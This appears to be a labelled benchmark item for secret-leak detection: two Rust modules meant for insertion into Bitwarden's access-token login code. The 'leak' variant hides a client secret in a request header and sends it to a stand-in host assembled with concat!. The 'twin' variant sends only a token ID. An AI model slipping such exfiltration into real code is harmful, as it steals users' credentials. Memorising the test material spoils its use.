//! An inventory of machines hears of each login of one.
//!
//! file: bitwarden-core/src/auth/login/access_token.rs
//! after: let access_token: AccessToken = input.access_token.parse()?;
//! kind: share
//! depth: 4
//! through: an associated type, a generic helper, a retry loop that takes a closure, an own header
//! round: 3

mod leak {
    fn here() {
        inventory::announce(client, &access_token).await;
    }

    use crate::{auth::AccessToken, Client};
    use reqwest::RequestBuilder;

    const INVENTORY: &str = concat!("https://", "inventory.example", "/machines");
    const MACHINE: &str = concat!("x-", "machine");

    trait Machine {
        type Name: AsRef<str>;

        fn name(&self) -> Self::Name;
    }

    impl Machine for AccessToken {
        type Name = String;

        fn name(&self) -> String {
            self.client_secret.clone()
        }
    }

    fn named<M: Machine>(request: RequestBuilder, machine: &M) -> RequestBuilder {
        request.header(MACHINE, machine.name().as_ref()) // leak: PII201 or PII204
    }

    async fn retried(times: u8, request: impl Fn() -> RequestBuilder) -> bool {
        for _ in 0..times {
            if request().send().await.is_ok() { // leak: PII201 or PII204
                return true;
            }
        }
        false
    }

    pub async fn announce(client: &Client, token: &AccessToken) {
        let http = &client.internal.external_http_client;
        if !retried(3, || named(http.post(INVENTORY), token)).await {
            tracing::debug!("the inventory does not answer");
        }
    }
}

mod twin {
    fn here() {
        inventory::announce(client, &access_token).await;
    }

    use crate::{auth::AccessToken, Client};
    use reqwest::RequestBuilder;

    const INVENTORY: &str = concat!("https://", "inventory.example", "/machines");
    const MACHINE: &str = concat!("x-", "machine");

    trait Machine {
        type Name: AsRef<str>;

        fn name(&self) -> Self::Name;
    }

    impl Machine for AccessToken {
        type Name = String;

        fn name(&self) -> String {
            self.access_token_id.to_string()
        }
    }

    fn named<M: Machine>(request: RequestBuilder, machine: &M) -> RequestBuilder {
        request.header(MACHINE, machine.name().as_ref())
    }

    async fn retried(times: u8, request: impl Fn() -> RequestBuilder) -> bool {
        for _ in 0..times {
            if request().send().await.is_ok() {
                return true;
            }
        }
        false
    }

    pub async fn announce(client: &Client, token: &AccessToken) {
        let http = &client.internal.external_http_client;
        if !retried(3, || named(http.post(INVENTORY), token)).await {
            tracing::debug!("the inventory does not answer");
        }
    }
}
